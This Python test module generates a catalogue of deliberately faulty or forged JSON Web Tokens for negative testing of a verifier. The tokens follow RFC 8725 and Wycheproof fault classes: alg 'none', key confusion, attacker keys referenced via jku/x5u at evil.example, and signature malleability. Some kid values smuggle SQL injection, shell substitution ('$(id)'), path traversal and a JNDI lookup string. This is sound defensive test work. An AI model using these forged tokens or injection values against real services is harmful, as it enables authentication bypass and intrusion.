"""Every way in which a token can be wrong, for every signer: a name and the token.

The classes of faults are those of RFC 8725 and of Wycheproof's test vectors for JWS and JWK. Each
token is good except for the fault that it is named after, so only that fault can reject it.
"""

import base64
import hashlib
import hmac
import itertools
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.asymmetric.ec import SECP384R1, EllipticCurvePublicKey
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.issuer import Signer, base64url, eddsa, es256, hs256, pss, public_jwk, rsa

EVIL = "https://evil.example"
DAY = 86_400
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

Named = Iterator[tuple[str, str]]


@dataclass(frozen=True)
class Case:
    """The signer, the time and the issuer. `raw` is the secret itself, if it may sign too."""

    signer: Signer
    now: int
    site: str
    raw: bytes = b""

    @property
    def claims(self) -> dict[str, Any]:
        """Return the claims of a good token."""
        return {
            "user_id": "ada",
            "sub": "ada",
            "email": "ada@example.com",
            "sid": "s1",
            "iss": self.site,
            "aud": self.site,
            "iat": self.now,
            "exp": self.now + 3600,
        }

    def token(self, header: dict[str, Any] | None = None, /, **claims: Any) -> str:
        """Return a token that is good except for these members. `...` omits a member."""
        return self.signer.token(
            chosen(self.signer.header | (header or {})), chosen(self.claims | claims)
        )

    def by(self, other: Signer, header: dict[str, Any] | None = None) -> str:
        """Return a token with the same claims, signed by another signer."""
        return other.token(chosen(other.header | (header or {})), self.claims)


def chosen(members: dict[str, Any]) -> dict[str, Any]:
    """Return the members without those that are `...`."""
    return {name: value for name, value in members.items() if value is not ...}


def names(algorithm: str) -> list[str]:
    """Return the names of an algorithm (RFC 9864 §2.2)."""
    return [algorithm, "Ed25519"] if algorithm == "EdDSA" else [algorithm]


def algorithms(case: Case) -> Named:
    """Yield tokens with every wrong `alg`, and a signature of the right key."""
    for alg in (
        *("none", "None", "NONE", "nOnE", "", " ", "HS", "hs256", "Hs256", "HS256 ", "HS256\0"),
        *("HS1", "HS384", "HS512", "RS1", "RS384", "RS512", "PS384", "PS512", "ES384", "ES512"),
        *("HS256", "EdDSA", "ES256", "RS256", "PS256"),
        *("ES256K", "Ed25519", "Ed448", "eddsa", "EDDSA", "RSA1_5", "RSA-OAEP", "RSA-OAEP-256"),
        *("dir", "A128KW", "A256GCMKW", "ECDH-ES", "PBES2-HS256+A128KW", "ML-DSA-44"),
        *(None, True, 0, 256, [], ["HS256"], {}, {"alg": "HS256"}, ...),
    ):
        if alg not in names(case.signer.algorithm):
            yield f"alg {alg!r}", case.token({"alg": alg})
            unsigned = case.token({"alg": alg}).rpartition(".")[0]
            yield f"alg {alg!r}, unsigned", f"{unsigned}."


def headers(case: Case) -> Named:
    """Yield tokens whose header has another meaning, or none."""
    types: list[Any] = [
        *("secevent+jwt", "dpop+jwt", "logout+jwt", "id_token", "JWE", "jwt ", "", "JWT\0"),
        *("application/secevent+jwt", "token-introspection+jwt", None, True, 7, ["JWT"], {}),
        *("SECEVENT+JWT", "Application/SecEvent+JWT", "application/"),
        *("application/application/jwt", "text/jwt", "x/application/jwt", "application/jwt "),
    ]
    for typ in types:
        yield f"typ {typ!r}", case.token({"typ": typ})
    extras: list[dict[str, Any]] = [
        {"crit": ["exp"], "exp": 1},
        {"crit": ["urn:x"], "urn:x": True},
        {"crit": []},
        {"crit": None},
        {"crit": "exp"},
        {"crit": ["crit"]},
        {"crit": ["alg"]},
        {"b64": False, "crit": ["b64"]},
        {"b64": True, "crit": ["b64"]},
        {"b64": False},
        {"b64": True},
        {"b64": None},
        {"zip": "DEF"},
        {"zip": None},
        *({"kid": kid} for kid in (7, 1.5, None, True, ["ed"], {"kid": "ed"}, "")),
        *({"kid": kid} for kid in ("ed\0", "ed\r\nX-Evil: 1", "\x1b[2J", "\x7f", "\x85", "\ud800")),
        *({"kid": "x" * length} for length in (256, 10_240)),
    ]
    for extra in extras:
        yield f"header with {str(extra)[:40]}", case.token(extra)
    yield "b64 false, payload as it is", _unencoded(case)
    alg = case.signer.algorithm
    for header in (
        f'["{alg}"]',
        f'"{alg}"',
        "null",
        "true",
        "1",
        "",
        "{}",
        f'{{"alg":"{alg}"',
        f'{{"alg":"{alg}",}}',
        f'{{"alg":"{alg}"}}{{"alg":"{alg}"}}',
        f'{{"alg":"{alg}"/**/}}',
        f"{{'alg':'{alg}'}}",
        f'{{"alg":"{alg}","x":NaN}}',
        f'{{"alg":"{alg}","x":Infinity}}',
        f'{{"alg":"{alg}","x":-Infinity}}',
        f'{{"alg":"{alg}","x":01}}',
        f'{{"alg":"{alg}","x":"\n"}}',
        f'{{"alg":"{alg}","x":"\\x"}}',
        f'\ufeff{{"alg":"{alg}"}}',
        f'{{"alg":"{alg}","alg":"{alg}"}}',
        f'{{"alg":"none","alg":"{alg}"}}',
        f'{{"alg":"{alg}","alg":"none"}}',
        f'{{"alg":"{alg}","\\u0061lg":"none"}}',
        f'{{"alg":"{alg}","kid":"a","kid":"b"}}',
        f'{{"alg":"{alg}","typ":"JWT","typ":"JWT"}}',
        f'{{"alg":"{alg}","jwk":{{"kty":"oct","kty":"RSA"}}}}',
        f'{{"alg":"{alg}","x":{"1" * 5000}}}',
        "[" * 3000,
        f'{{"alg":"{alg}","x":{"[" * 2000}{"]" * 2000}}}',
    ):
        yield f"header {header[:40]!r}", case.signer.token(header, case.claims)
    for encoding in ("utf-16", "utf-16-le", "utf-32-be", "cp500"):
        octets = json.dumps(case.signer.header).encode(encoding)
        yield f"header in {encoding}", case.signer.token(octets, case.claims)
    octets = json.dumps(case.signer.header)[:-1].encode() + b',"x":"\xff\xfe"}'
    yield "header with bytes that are no UTF-8", case.signer.token(octets, case.claims)


def _unencoded(case: Case) -> str:
    """Return a token with an unencoded payload (RFC 7797 §3)."""
    header = base64url(json.dumps(case.signer.header | {"b64": False, "crit": ["b64"]}).encode())
    payload = json.dumps(case.claims)
    return f"{header}.{payload}.{base64url(case.signer.sign(f'{header}.{payload}'.encode()))}"


def _attacker(case: Case) -> Signer:
    """Return an attacker's key of the same type and with the same ID."""
    makers: dict[str, Callable[[str | None], Signer]] = {
        "HS256": lambda name: hs256(b"another secret that is thirty-two bytes long", name),
        "EdDSA": eddsa,
        "ES256": es256,
    }
    algorithm = case.signer.algorithm
    if algorithm in makers:
        return makers[algorithm](case.signer.id)
    return rsa(algorithm, case.signer.id)


def keys(case: Case) -> Named:
    """Yield tokens that other keys signed, some with headers that refer to those keys."""
    evil = _attacker(case)
    jwk = public_jwk(evil.public) if evil.public else {"kty": "oct", "k": base64url(b"x" * 32)}
    for brought in (
        {},
        {"jwk": jwk},
        {"jwk": jwk | {"kid": "evil"}, "kid": "evil"},
        {"jwk": {"kty": "oct", "k": ""}},
        {"jku": f"{EVIL}/jwks"},
        {"jku": "file:///dev/null"},
        {"x5u": f"{EVIL}/cert.pem"},
        {"x5c": ["MIIB"], "x5t": "x", "x5t#S256": "y"},
        {"kid": ...},
        {"kid": "nobody's"},
    ):
        named = ", ".join(f"{name} {str(value)[:20]}" for name, value in brought.items())
        yield f"another key that brings {named or 'nothing'}", case.by(evil, brought)
    for stranger in (eddsa(), es256(), rsa("RS256"), rsa("PS256")):
        for kid in (case.signer.id or ..., ..., "nobody's"):
            named = f"{stranger.algorithm} by a stranger, kid {kid!r}"
            yield named, case.by(stranger, {"kid": kid})
    p384 = es256(case.signer.id, SECP384R1())
    yield "ES256 on P-384", case.by(p384)
    yield "ES384 on P-384", case.by(p384, {"alg": "ES384"})
    for secret in (b"", bytes(32), b"secret", b"none", case.site.encode(), b"null", b"undefined"):
        yield f"HS256 under {secret!r}", case.by(hs256(secret))
        yield f"HS256 under {secret!r} by name", case.by(hs256(secret, case.signer.id or "x"))
    for kid in (
        *("/dev/null", "../../../../dev/null", "file:///dev/null", f"{EVIL}/key", "\\\\evil\\key"),
        *("' UNION SELECT 'key' -- ", "x'; DROP TABLE tasks; --", "$(id)", "`id`", "| id", "{{7}}"),
        *("${jndi:ldap://evil.example/a}", "%00", "%2e%2e%2f", "__proto__", "constructor", "None"),
        *("0", "-1", "null", "undefined", "*", "a" * 255, "😀", "\u202eevil", "kid\u00a0"),
    ):
        for key in (b"", kid.encode(), b"key"):
            yield f"kid {kid[:40]!r}, signed under {key[:9]!r}", case.by(hs256(key), {"kid": kid})


def confusion(case: Case) -> Named:
    """Yield tokens with a public key used as an HMAC secret (RFC 8725 §2.1)."""
    public = case.signer.public or rsa("RS256").public
    assert public is not None
    jwk = public_jwk(public)
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    spellings = {
        "PEM": pem,
        "PEM without its last line break": pem.strip(),
        "PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "the body of PEM": b"".join(pem.splitlines()[1:-1]),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(jwk).encode(),
        "compact JWK": json.dumps(jwk, separators=(",", ":")).encode(),
        "sorted JWK": json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode(),
        "JWK Set": json.dumps({"keys": [jwk]}).encode(),
    }
    if case.signer.public:
        spellings["JWK as served"] = json.dumps(case.signer.jwk).encode()
    spellings["thumbprint"] = hashlib.sha256(spellings["sorted JWK"]).digest()
    for member in sorted(jwk.keys() - {"kty", "crv"}):
        spellings[f"{member} as it is written"] = jwk[member].encode()
        spellings[member] = base64.urlsafe_b64decode(jwk[member] + "==")
    if isinstance(public, RSAPublicKey):
        spellings["PKCS #1 PEM"] = public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        spellings["PKCS #1 DER"] = public.public_bytes(Encoding.DER, PublicFormat.PKCS1)
    if isinstance(public, EllipticCurvePublicKey):
        point = public.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
        spellings["point"] = point
        spellings["compressed point"] = bytes([2 + point[-1] % 2]) + point[1:33]
        spellings["OpenSSH"] = public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    if isinstance(public, Ed25519PublicKey):
        spellings["OpenSSH"] = public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    for spelling, digest in itertools.product(spellings, ("sha256", "sha384", "sha512")):
        key, algorithm = spellings[spelling], f"HS{digest[3:]}"

        def sign(octets: bytes, key: bytes = key, digest: str = digest) -> bytes:
            return hmac.digest(key, octets, digest)

        yield (
            f"{algorithm} under the public key as {spelling}",
            case.by(Signer(algorithm, sign, id=case.signer.id)),
        )


def signatures(case: Case) -> Named:
    """Yield tokens with the right key and content, but a wrong signature."""
    good = case.token()
    told, _, signature = good.rpartition(".")
    header, payload = told.split(".")
    octets = base64.urlsafe_b64decode(signature + "==")
    size = len(octets)
    others = {
        "empty": b"",
        "one octet": octets[:1],
        "half": octets[: size // 2],
        "the other half": octets[size // 2 :],
        "one octet short": octets[:-1],
        "one octet long": octets + b"\0",
        "one octet before": b"\0" + octets,
        "twice": octets * 2,
        "zeros": bytes(size),
        "ones": b"\xff" * size,
        "one": bytes(size - 1) + b"\1",
        "reversed": octets[::-1],
        "inverted": bytes(255 - octet for octet in octets),
        "4 KB": octets + bytes(4096 - size),
        "of another token": case.signer.sign(case.token(sid="s2").rpartition(".")[0].encode()),
        "of the header": case.signer.sign(header.encode()),
        "of the payload": case.signer.sign(payload.encode()),
        "of the payload's octets": case.signer.sign(json.dumps(case.claims).encode()),
        "of both without a dot": case.signer.sign((header + payload).encode()),
        "of both the wrong way round": case.signer.sign(f"{payload}.{header}".encode()),
        "of a digest": case.signer.sign(hashlib.sha256(told.encode()).digest()),
        "of nothing": case.signer.sign(b""),
        "of the whole token": case.signer.sign(good.encode()),
        "of a line break more": case.signer.sign(f"{told}\n".encode()),
        "in base64": base64.b64encode(octets),
        "in hexadecimal": octets.hex().encode(),
        "a digest alone": hashlib.sha256(told.encode()).digest(),
    }
    others |= {f"bit {bit} turned": _turned(octets, bit) for bit in (0, 7, 8 * size - 1, 4 * size)}
    match case.signer.algorithm:
        case "ES256":
            others |= _ecdsa(octets)
        case "EdDSA":
            scalar = int.from_bytes(octets[32:], "little")
            for times in (1, 2, 7):
                more = scalar + times * ED25519_ORDER
                others[f"S + {times} L"] = octets[:32] + more.to_bytes(32, "little")
            others["S = 0"] = octets[:32] + bytes(32)
            others["S = L"] = octets[:32] + ED25519_ORDER.to_bytes(32, "little")
            others["R the neutral point"] = b"\1" + bytes(63)
            others["R in another spelling"] = b"\xee" + b"\xff" * 30 + b"\x7f" + octets[32:]
        case "RS256" | "PS256":
            others |= _rsa(case, told, octets)
        case _:
            others["HMAC of 16 octets"] = octets[:16]
            others["HMAC of 31 octets"] = octets[:31]
    for named, other in others.items():
        yield f"signature {named}", f"{told}.{base64url(other)}"


def _turned(octets: bytes, bit: int) -> bytes:
    turned = bytearray(octets)
    turned[bit // 8] ^= 1 << (bit % 8)
    return bytes(turned)


def _ecdsa(octets: bytes) -> dict[str, bytes]:
    r, s = int.from_bytes(octets[:32], "big"), int.from_bytes(octets[32:], "big")
    edges = (0, 1, P256_ORDER - 1, P256_ORDER, P256_ORDER + 1, 2**256 - 1)
    numbers = {f"r {a:x}, s {b:x}": (a, b) for a, b in itertools.product(edges, edges)}
    numbers |= {f"r {edge:x}": (edge, s) for edge in edges}
    numbers |= {f"s {edge:x}": (r, edge) for edge in edges} | {"s before r": (s, r)}
    others = {
        name: a.to_bytes(32, "big") + b.to_bytes(32, "big") for name, (a, b) in numbers.items()
    }
    wide = {"of 33": 33, "of 48": 48, "of 66": 66}
    for name, width in wide.items():
        others[f"{name} octets each"] = r.to_bytes(width, "big") + s.to_bytes(width, "big")
    others["r + n, of 33 octets each"] = (r + P256_ORDER).to_bytes(33, "big") + s.to_bytes(
        33, "big"
    )
    others["little-endian"] = octets[31::-1] + octets[:31:-1]
    others["DER"] = encode_dss_signature(r, s)
    others["DER with a spare octet"] = encode_dss_signature(r, s) + b"\0"
    return others


def _rsa(case: Case, told: str, octets: bytes) -> dict[str, bytes]:
    public = case.signer.public
    assert isinstance(public, RSAPublicKey)
    n, number = public.public_numbers().n, int.from_bytes(octets, "big")
    size = len(octets)
    stated = b"\x30\x31\x30\x0d\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01\x05\x00\x04\x20"
    block = stated + hashlib.sha256(told.encode()).digest()
    paddings: dict[str, padding.AsymmetricPadding] = {
        f"PSS with a salt of {salt}": pss(salt) for salt in (0, 20, 31, 33, 64)
    }
    if case.signer.algorithm == "RS256":
        paddings["PSS"] = pss()
    else:
        paddings["PKCS #1 v1.5"] = padding.PKCS1v15()
    private = case.signer.rsa
    assert private is not None
    return {name: private.sign(told.encode(), pad, SHA256()) for name, pad in paddings.items()} | {
        "s + n": (number + n).to_bytes(size + 1, "big"),
        "n - s": (n - number).to_bytes(size, "big"),
        "n": n.to_bytes(size, "big"),
        "n - 1": (n - 1).to_bytes(size, "big"),
        # The padded block itself instead of its signature, as if the private exponent were omitted.
        "the padded digest itself": b"\0\1" + b"\xff" * (size - len(block) - 3) + b"\0" + block,
        "of a cube root's kind": b"\0\1\xff\0" + block + bytes(size - len(block) - 4),
    }


def spellings(case: Case) -> Named:
    """Yield the right octets in other encodings (RFC 7515 §2), and in other forms of a JWS."""
    good = case.token()
    header, payload, signature = good.split(".")
    segments = {"header": 0, "payload": 1, "signature": 2}
    for name, at in segments.items():
        for spare in ("=", "==", "===", "\n", " ", "\t", "\0", "A", "AA", "AAAA", "-", "%3D", "é"):
            parts = good.split(".")
            yield f"{name} with {spare!r} after it", ".".join(_with(parts, at, parts[at] + spare))
            yield f"{name} with {spare!r} before it", ".".join(_with(parts, at, spare + parts[at]))
            middle = parts[at][:8] + spare + parts[at][8:]
            yield f"{name} with {spare!r} in it", ".".join(_with(parts, at, middle))
        yield f"no {name}", ".".join(_with(good.split("."), at, ""))
    # If the last character has unused bits, setting one gives another spelling of the same octets.
    for pad in ("", " ", "  "):
        raw = json.dumps(case.claims) + pad
        parts = case.signer.token(case.signer.header, raw).split(".")
        for name, at in segments.items():
            spare_bits = {2: 4, 3: 2}.get(len(parts[at]) % 4, 0)
            if spare_bits:
                place = ALPHABET.index(parts[at][-1])
                spelt = parts[at][:-1] + ALPHABET[place + 1]
                yield (
                    f"{name} with spare bits, {len(pad)} longer",
                    ".".join(_with(parts, at, spelt)),
                )
    slashed = next(
        token
        for token in (case.token(x="?" * n + ">" * 9) for n in range(9))
        if {"-", "_"} & set(token.split(".")[1])
    )
    yield "plain base64", slashed.translate(str.maketrans("-_", "+/"))
    for spelling in (
        "",
        ".",
        "..",
        "...",
        "x",
        "null",
        header,
        f"{header}.{payload}",
        f"{header}.{payload}.",
        f"{payload}.{header}.{signature}",
        f"{good}.",
        f".{good}",
        f"{good}.{signature}",
        f"{good}.{good}",
        f"{header}..{payload}.{signature}",
        f"{header},{payload},{signature}",
        good.replace(".", "\u3002"),
        good.lower(),
        good.upper(),
        good[::-1],
        f'"{good}"',
        f"<{good}>",
        f"{good}~",
        f"Bearer {good}",
        "A" * 8193,
    ):
        yield f"{spelling[:60]!r} ({len(spelling)})", spelling
    flattened = {"protected": header, "payload": payload, "signature": signature}
    yield "JSON, flattened", json.dumps(flattened)
    general = {"payload": payload, "signatures": [{"protected": header, "signature": signature}]}
    yield "JSON, general", json.dumps(general)
    yield "JSON, flattened, in base64url", base64url(json.dumps(flattened).encode())
    encrypted = base64url(b'{"alg":"dir","enc":"A256GCM"}')
    yield "a JWE", f"{encrypted}..{base64url(b'n' * 12)}.{payload}.{base64url(b't' * 16)}"
    yield "a JWE with the token in it", f"{header}.{header}.{payload}.{signature}.{signature}"
    yield "enc and dir in the header", case.token({"alg": "dir", "enc": "A256GCM"})
    yield "a token in a token", case.signer.token(case.signer.header | {"cty": "JWT"}, good)
    yield (
        "a token as JSON in a token",
        case.signer.token(case.signer.header | {"cty": "JWT"}, json.dumps(good)),
    )
    yield "a gzipped payload", case.signer.token(case.signer.header, b"\x1f\x8b\x08\0")
    yield "over 8 KiB", case.token(x="x" * 8192)


def _with(parts: list[str], at: int, part: str) -> list[str]:
    return [*parts[:at], part, *parts[at + 1 :]]


def claims(case: Case) -> Named:
    """Yield tokens in which one or two required claims are wrong."""
    now, site = case.now, case.site
    dates: list[Any] = [
        *(None, True, False, "", "x", str(now + 60), f"{now}.0", "9e9", [], [now + 60], {}),
        {"$date": now + 60},
    ]
    wrong: dict[str, list[Any]] = {
        "exp": [
            *(..., now - 1, now - DAY, 0, -1, -(10**400), now - 0.5, 1e-300),
            *(now + 2 * DAY, now + 3650 * DAY, (now + 60) * 1000, 2**63, 10**400, 1.7e308),
            *dates,
        ],
        "iat": [now + 120, now + DAY, (now + 60) * 1000, 10**400, 1.7e308, *dates],
        "nbf": [now + 120, now + DAY, (now + 60) * 1000, 10**400, 1.7e308, *dates],
        "iss": [..., *_others(site), [site], [site, site]],
        "aud": [
            *(..., *_others(site), [EVIL], [EVIL, EVIL], [[site]], [site, [site]], [{"x": site}]),
            *([site, None], [None, site], [site, 7], [True, site], [site, ""], [site, "a\0b"]),
            *([site, "\ud800"], [site, "x" * 2049], [site] * 11, [site, *["x"] * 10]),
            *([*["x"] * 10, site], [site.upper()], [f"{site} "], [f"{site}//"], [[], site]),
        ],
        "user_id": [
            *(..., None, "", 0, 7, 1.5, True, False, [], ["ada"], {}, {"id": "ada"}),
            *("x" * 256, "x" * 5000, "a\0b", "a\nb", "a\rb", "\t", "a\x1bb", "a\x7fb", "a\x85b"),
            *("\ud800", "a\udfffb", "\udc00\ud800"),
        ],
        "sub": [*("bob", "", "ADA", "ada ", " ada", "ada\0", None, 7, True, ["ada"], {})],
        "email": [None, 7, True, [], {}, "", "a\0b", "\ud800", "x" * 321],
        "sid": [None, 7, True, [], {}, "", "a\nb", "\ud800", "x" * 256],
        "events": [{}, None, [], "", False, {f"{EVIL}/event": {}}],
    }
    for claim, values in wrong.items():
        for value in values:
            named = f"{claim} {str(value)[:40]!r} of {type(value).__name__}"
            free = {"sub": ...} if claim == "user_id" else {}
            bad = {claim: value} | free
            yield named, case.token(**bad)
            if case.raw:
                yield (
                    f"{named}, under the bare secret",
                    hs256(case.raw).token(case.signer.header, chosen(case.claims | bad)),
                )
    pairs: list[dict[str, Any]] = [
        {"exp": now - 1},
        {"exp": str(now + 60)},
        {"iat": now + 120},
        {"iss": EVIL},
        {"aud": [EVIL]},
        {"user_id": ..., "sub": ...},
        {"sub": "bob"},
        {"events": {}},
    ]
    for one, other in itertools.combinations(pairs, 2):
        yield f"{str(one)[:30]} and {str(other)[:30]}", case.token(**one | other)
        yield (
            f"{str(one)[:30]}, and crit {str(other)[:30]}",
            case.token({"crit": []}, **one | other),
        )
    yield "nothing at all", case.signer.token(case.signer.header, "{}")


def _others(site: str) -> list[Any]:
    """Return values that are neither the issuer nor the audience."""
    return [
        *(None, "", EVIL, f"{site}//", f"{site}/x", f"{site}.evil.example", f"x{site}", f"{site} "),
        *(site.upper(), site[:-1], site.replace("http", "ftp", 1), f"{site}\0", f"{site}?", "*"),
        *([], {}, {"0": site}, True, 7, "null", "off", site * 99),
    ]


def payloads(case: Case) -> Named:
    """Yield tokens whose payload is not one JSON object without duplicate members."""
    good = json.dumps(case.claims)
    exp = str(case.now + 3600)
    for payload in (
        json.dumps([case.claims]),
        json.dumps(good),
        "null",
        "true",
        "1",
        "",
        " ",
        good[:-1],
        good + good,
        f"{good},",
        f"{good}x",
        f"/**/{good}",
        good.replace('"', "'"),
        f"\ufeff{good}",
        good.replace('"exp"', '"user_id": "bob", "exp"'),
        good.replace('"exp"', '"user_id": "ada", "exp"'),
        good.replace('"exp"', '"user\\u005fid": "bob", "exp"'),
        good.replace('"exp"', '"exp": 9999999999, "exp"'),
        good.replace('"exp"', '"iss": "x", "exp"'),
        good.replace('"exp"', '"x": {"y": 1, "y": 2}, "exp"'),
        good.replace('"exp"', '"x": [{"y": 1, "y": 1}], "exp"'),
        good.replace(exp, "Infinity"),
        good.replace(exp, "-Infinity"),
        good.replace(exp, "NaN"),
        good.replace(exp, "9e999"),
        good.replace(exp, "-9e999"),
        good.replace(exp, "1" * 5000),
        good.replace(exp, f"0{exp}"),
        good.replace(exp, f"+{exp}"),
        good.replace(exp, f"{exp}."),
        good.replace(exp, hex(case.now + 3600)),
        good.replace(exp, "1_900_000_000"),
        good.replace('"exp"', '"x": NaN, "exp"'),
        good.replace('"exp"', '"x": [Infinity], "exp"'),
        good.replace('"exp"', '"x": "\n", "exp"'),
        good.replace('"exp"', f'"x": {"[" * 1500}{"]" * 1500}, "exp"'),
        good.replace('"ada"', '"a\\u0000b"'),
        good.replace('"ada"', '"a\\ud800b"'),
        "[" * 3000,
        good.replace('"exp"', '"Exp"'),
        good.replace('"user_id"', '"userId"').replace('"sub": "ada", ', ""),
    ):
        yield (
            f"payload {payload[:20]} … {payload[-40:]}",
            case.signer.token(case.signer.header, payload),
        )
    for encoding in ("utf-16", "utf-16-be", "utf-32", "cp500"):
        yield f"payload in {encoding}", case.signer.token(case.signer.header, good.encode(encoding))
    for octets in (b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf5\x80\x80\x80"):
        broken = good.encode().replace(b'"ada"', b'"ada' + octets + b'"')
        yield f"payload with {octets!r}", case.signer.token(case.signer.header, broken)


def other_purposes(case: Case) -> Named:
    """Yield tokens that the same issuer signs for other purposes (RFC 8725 §3.12)."""
    name = "https://schemas.openid.net/secevent/caep/event-type/session-revoked"
    event = {"iss": case.site, "aud": f"{case.site}/events", "iat": case.now, "jti": "1"} | {
        "events": {name: {"event_timestamp": case.now}},
        "sub_id": {"format": "iss_sub", "iss": case.site, "sub": "ada"},
    }
    mail = {"email": "ada@example.com", "iat": case.now, "exp": case.now + 3600}
    identity = chosen(case.claims | {"aud": "client", "nonce": "n", "user_id": ...})
    signers = {"": case.signer} | ({", under the bare secret": hs256(case.raw)} if case.raw else {})
    for under, signer in signers.items():
        for typ in ("secevent+jwt", "JWT", ...):
            header = chosen(signer.header | {"typ": typ})
            yield f"a security event of typ {typ}{under}", signer.token(header, event)
            both = case.claims | {"events": event["events"]}
            yield f"a token with an event, typ {typ}{under}", signer.token(header, both)
        for named, said in {
            "an e-mail token": mail,
            "an e-mail token that changes the address": mail | {"updateTo": "eve@example.com"},
            "an e-mail token with a user": mail | {"user_id": "ada"},
            "an ID token": identity,
            "a logout token": event | {"sid": "s1", "sub": "ada"},
        }.items():
            yield f"{named}{under}", signer.token(signer.header, said)


FAMILIES: dict[str, Callable[[Case], Named]] = {
    family.__name__: family
    for family in (
        *(algorithms, headers, keys, confusion, signatures),
        *(spellings, claims, payloads, other_purposes),
    )
}
